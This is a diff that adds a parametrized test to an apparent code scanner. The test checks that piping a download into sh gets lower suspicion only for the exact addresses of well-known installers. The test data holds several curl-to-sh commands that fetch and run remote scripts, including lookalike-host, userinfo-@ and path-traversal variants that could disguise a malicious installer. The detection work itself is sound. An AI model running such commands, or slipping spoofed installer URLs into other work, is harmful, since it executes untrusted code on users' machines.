@@ -485,3 +485,25 @@ _UNREADABLE = {
 def test_a_text_that_cannot_be_read_as_it_stands_is_no_constant(source: str) -> None:
     (site,) = sites("code.dynamic_code", source)
     assert site.confidence > 0.8
+
+
+@pytest.mark.parametrize(
+    ("command", "confidence"),
+    [
+        ("curl -LsSf https://astral.sh/uv/install.sh | sh", 0.6),
+        ("curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y", 0.6),
+        ("curl -sSL https://example.org/install.sh | sh", 0.9),
+        ("curl -sSL https://sh.rustup.rs.example.org/x | sh", 0.9),
+        ("curl -sSL https://sh.rustup.rs@example.org/x | sh", 0.9),
+        ("curl -sSL https://sh.rustup.rs https://example.org/x | sh", 0.9),
+        ("curl -sSL example.org/x https://sh.rustup.rs | sh", 0.9),
+        ("curl -sSL http://sh.rustup.rs | sh", 0.9),
+        ("curl -sSL https://sh.rustup.rs/$EXTRA | sh", 0.9),
+        ("curl -sSL https://astral.sh/uv/../../x | sh", 0.9),
+    ],
+)
+def test_only_the_plain_address_of_a_well_known_installer_lowers_the_confidence(
+    command: str, confidence: float
+) -> None:
+    (site,) = sites("code.dynamic_code", f"{command}\n", "shell")
+    assert site.confidence == confidence
